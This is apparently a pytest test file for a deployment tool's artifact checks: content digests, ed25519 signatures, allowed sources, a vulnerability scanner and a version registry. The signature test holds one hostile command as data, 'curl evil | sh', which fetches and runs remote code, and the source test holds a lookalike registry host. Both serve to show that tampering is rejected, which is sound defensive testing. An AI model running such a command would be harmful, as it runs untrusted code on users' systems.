"""Artifacts: digests of files and folders, ed25519 signatures, allowed sources, a real scanner script, and
the registry of versions. No Ray."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from engine.artifacts import (
    ArtifactRegistry,
    check_digest,
    check_signature,
    check_source,
    digest_folder,
    digest_path,
    judge_scan,
    load_public_key,
    path_digests,
    public_key_pem,
    run_scanner,
    sign,
)
from engine.journal import Journal
from engine.models import (
    Artifact,
    ArtifactSignature,
    DeploymentRequest,
    PlatformConfig,
    ScannerConfig,
    Strategy,
)
from engine.state import EventKind

SCANNER = Path(__file__).resolve().parents[2] / "examples" / "vulnerability_scanner.py"


def _folder(root: Path) -> Path:
    (root / "bin").mkdir(parents=True)
    (root / "app.py").write_text("print('hello')\n")
    (root / "bin" / "run").write_text("#!/bin/sh\nexec python3 app.py\n")
    os.chmod(root / "bin" / "run", 0o755)
    return root


def _artifact(path: Path, **extra: object) -> Artifact:
    return Artifact.model_validate(
        {
            "name": "web",
            "version": "2.0.0",
            "source": "registry.example.com/web:2.0.0",
            "command": ["./bin/run"],
            "path": str(path),
            "sha256": digest_path(path),
            **extra,
        }
    )


# --------------------------------------------------------------------------------------------
# Digests
# --------------------------------------------------------------------------------------------
def test_a_file_s_digest_is_its_sha256(tmp_path: Path) -> None:
    file = tmp_path / "web.zip"
    file.write_bytes(b"zip bytes")
    assert digest_path(file) == hashlib.sha256(b"zip bytes").hexdigest()


def test_a_folder_s_digest_is_reproducible_and_covers_content_names_and_modes(tmp_path: Path) -> None:
    first = digest_folder(_folder(tmp_path / "a"))
    copy = _folder(tmp_path / "b")
    os.utime(copy / "app.py", (1, 1))  # times do not count
    assert digest_folder(copy) == first
    (copy / "app.py").write_text("print('HELLO')\n")
    assert digest_folder(copy) != first
    other = _folder(tmp_path / "c")
    os.chmod(other / "bin" / "run", 0o644)  # not executable any more: what runs differs
    assert digest_folder(other) != first
    renamed = _folder(tmp_path / "d")
    (renamed / "app.py").rename(renamed / "main.py")
    assert digest_folder(renamed) != first


def test_the_digest_must_match_the_content(tmp_path: Path) -> None:
    folder = _folder(tmp_path / "app")
    good = _artifact(folder)
    assert check_digest(good, path_digests, required=True).status == "passed"
    (folder / "app.py").write_text("print('tampered')\n")
    mismatch = check_digest(good, path_digests, required=True)
    assert mismatch.status == "failed"
    assert mismatch.evidence.startswith(f"sha256 mismatch: the artifact says {good.sha256}, its content is ")
    assert check_digest(good.model_copy(update={"sha256": None}), path_digests, True).status == "failed"
    assert check_digest(good.model_copy(update={"sha256": None}), path_digests, False).status == "skipped"
    gone = check_digest(good.model_copy(update={"path": str(tmp_path / "nowhere")}), path_digests, True)
    assert gone.status == "failed" and "cannot read" in gone.evidence
    nothing = check_digest(good.model_copy(update={"path": None}), path_digests, True)
    assert nothing.status == "failed" and "nothing to hash" in nothing.evidence


# --------------------------------------------------------------------------------------------
# Signatures
# --------------------------------------------------------------------------------------------
def test_a_good_signature_verifies_and_a_changed_artifact_does_not(tmp_path: Path) -> None:
    key = Ed25519PrivateKey.generate()
    trusted = {"release": public_key_pem(key)}
    signed = sign(_artifact(_folder(tmp_path / "app")), key, "release")
    assert check_signature(signed, trusted, required=True).status == "passed"
    for change in ({"version": "2.0.1"}, {"command": ["sh", "-c", "curl evil | sh"]}, {"sha256": "0" * 64}):
        bad = check_signature(signed.model_copy(update=change), trusted, required=True)
        assert bad.status == "failed", change
        assert "does not verify with key 'release'" in bad.evidence


def test_a_signature_by_an_untrusted_key_or_no_signature_fails(tmp_path: Path) -> None:
    artifact = _artifact(_folder(tmp_path / "app"))
    mallory = Ed25519PrivateKey.generate()
    trusted = {"release": public_key_pem(Ed25519PrivateKey.generate())}
    unknown = check_signature(sign(artifact, mallory, "mallory"), trusted, required=True)
    assert (
        unknown.status == "failed"
        and "key 'mallory' is not trusted here (trusted: release)" in unknown.evidence
    )
    forged = check_signature(sign(artifact, mallory, "release"), trusted, required=True)
    assert forged.status == "failed"
    garbage = artifact.model_copy(
        update={"signature": ArtifactSignature(key_id="release", value="not base64!")}
    )
    assert check_signature(garbage, trusted, True).status == "failed"
    assert check_signature(artifact, trusted, required=True).status == "failed"
    assert check_signature(artifact, trusted, required=False).status == "skipped"


def test_public_keys_load_from_pem_openssh_base64_and_files(tmp_path: Path) -> None:
    key = Ed25519PrivateKey.generate()
    public = key.public_key()
    raw = public.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    openssh = public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()
    (tmp_path / "release.pub").write_text(openssh)
    for text in (
        public_key_pem(key),
        openssh,
        base64.b64encode(raw).decode(),
        f"file:{tmp_path}/release.pub",
    ):
        assert (
            load_public_key(text).public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
            == raw
        )
    with pytest.raises(ValueError, match="private key"):
        load_public_key("-----BEGIN PRIVATE KEY-----\nMC4CAQ...\n-----END PRIVATE KEY-----")
    with pytest.raises(ValueError, match="cannot read"):
        load_public_key(f"file:{tmp_path}/missing.pub")


# --------------------------------------------------------------------------------------------
# Sources
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("source", "allowed"),
    [
        ("registry.example.com/web:2.0.0", True),
        ("local", True),
        ("file:///srv/builds/web.zip", True),
        ("registry.example.com.evil.io/web:2.0.0", False),
        ("localevil", False),
        ("docker.io/web:2.0.0", False),
    ],
)
def test_a_source_must_be_on_the_allowed_list(tmp_path: Path, source: str, allowed: bool) -> None:
    rules = ["registry.example.com/", "local", "file:///srv/builds/*"]
    artifact = Artifact(name="web", version="1", source=source)
    check = check_source(artifact, rules)
    assert check.status == ("passed" if allowed else "failed")
    if not allowed:
        assert f"source '{source}' is not on the allowed list" in check.evidence
    assert check_source(artifact, []).status == "skipped"


# --------------------------------------------------------------------------------------------
# Scans, with the example scanner (a real script)
# --------------------------------------------------------------------------------------------
def _scanner(tmp_path: Path, bad: bytes = b"") -> ScannerConfig:
    advisory = {"id": "CVE-2014-0160", "severity": "critical", "sha256": hashlib.sha256(bad).hexdigest()}
    (tmp_path / "advisories.json").write_text(json.dumps({"advisories": [advisory] if bad else []}))
    command = [sys.executable, str(SCANNER), "--advisories", str(tmp_path / "advisories.json"), "{path}"]
    return ScannerConfig(command=command, timeout=30_000)


def test_a_clean_artifact_passes_the_scanner(tmp_path: Path) -> None:
    check = run_scanner(_artifact(_folder(tmp_path / "app")), _scanner(tmp_path, b"vulnerable"))
    assert check.status == "passed", check.evidence
    assert check.evidence == "scanned: 0 finding(s), none at high or above"


def test_a_known_vulnerable_file_fails_the_scan(tmp_path: Path) -> None:
    folder = _folder(tmp_path / "app")
    (folder / "libssl.so").write_bytes(b"vulnerable")
    check = run_scanner(_artifact(folder), _scanner(tmp_path, b"vulnerable"))
    assert check.status == "failed"
    assert check.evidence == "1 finding(s) at high or above: CVE-2014-0160 (critical)"
    assert check.details["exit_code"] == 1


def test_an_embedded_private_key_fails_the_scan_through_the_report_file(tmp_path: Path) -> None:
    folder = _folder(tmp_path / "app")
    (folder / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n...\n")
    scanner = _scanner(tmp_path)
    # The artifact's path reaches the scanner through the environment as well ($ARTIFACT_PATH).
    check = run_scanner(_artifact(folder), scanner.model_copy(update={"command": scanner.command[:-1]}))
    assert check.status == "failed" and "embedded-private-key (high)" in check.evidence


def test_a_scanner_that_cannot_scan_fails_and_says_why(tmp_path: Path) -> None:
    artifact = _artifact(_folder(tmp_path / "app")).model_copy(update={"path": None})
    check = run_scanner(artifact, _scanner(tmp_path))
    assert check.status == "failed"
    assert "gave no usable report" in check.evidence and "nothing to scan" in check.evidence
    missing = run_scanner(artifact, ScannerConfig(command=[str(tmp_path / "no-such-scanner")]))
    assert missing.status == "failed" and "could not start" in missing.evidence
    slow = ScannerConfig(command=[sys.executable, "-c", "import time; time.sleep(5)"], timeout=300)
    assert run_scanner(artifact, slow).evidence == "the scanner did not finish within 0.3s"


def test_a_scan_is_judged_on_its_exit_status_and_its_report() -> None:
    clean = json.dumps({"vulnerabilities": [{"id": "CVE-1", "severity": "low"}]}).encode()
    assert judge_scan(0, clean, b"", "high", 0.1).status == "passed"
    assert judge_scan(3, clean, b"", "high", 0.1).evidence == "the scanner exited with status 3"
    assert judge_scan(0, clean, b"", "low", 0.1).status == "failed"
    trivy = {"Results": [{"Vulnerabilities": [{"VulnerabilityID": "CVE-2", "Severity": "HIGH"}]}]}
    assert judge_scan(0, json.dumps(trivy).encode(), b"", "high", 0.1).evidence.endswith("CVE-2 (high)")
    assert judge_scan(0, b"{}", b"", "high", 0.1).status == "failed"
    assert judge_scan(0, b"", b"boom\n", "high", 0.1).status == "failed"


# --------------------------------------------------------------------------------------------
# The registry
# --------------------------------------------------------------------------------------------
def test_the_registry_records_versions_refuses_a_changed_digest_and_says_where_each_runs(
    tmp_path: Path,
) -> None:
    journal = Journal(tmp_path / "journal.db")
    registry = ArtifactRegistry(journal)
    v1 = _artifact(_folder(tmp_path / "v1"), version="1.0.0", build={"commit": "abc", "builder": "ci"})
    v2 = _artifact(_folder(tmp_path / "v2"), version="2.0.0")
    for index, (artifact, environment) in enumerate([(v1, "staging"), (v1, "production"), (v2, "staging")]):
        request = DeploymentRequest(
            artifact=artifact,
            strategy=Strategy(type="rolling"),
            environment=environment,  # type: ignore[arg-type]
            platform=PlatformConfig(type="local"),
        )
        journal.submit(f"d{index}", request, actor="ci")
        registry.register(artifact, "ci")
        journal.append(f"d{index}", EventKind.FINISHED, {"outcome": "succeeded"})
    changed = v1.model_copy(update={"sha256": "f" * 64})
    assert registry.conflict(changed) == (
        f"artifact: web 1.0.0 was registered with sha256 {v1.sha256}; this one has {'f' * 64}: give the new "
        "content a new version"
    )
    assert registry.conflict(v1) is None
    entries = {e.version: e for e in registry.versions("web")}
    assert entries["1.0.0"].live_in == ["production"] and entries["1.0.0"].deployments == ["d0", "d1"]
    assert entries["2.0.0"].live_in == ["staging"]
    assert entries["1.0.0"].build == {"commit": "abc", "built_at": None, "builder": "ci"}
    assert registry.versions("other") == []
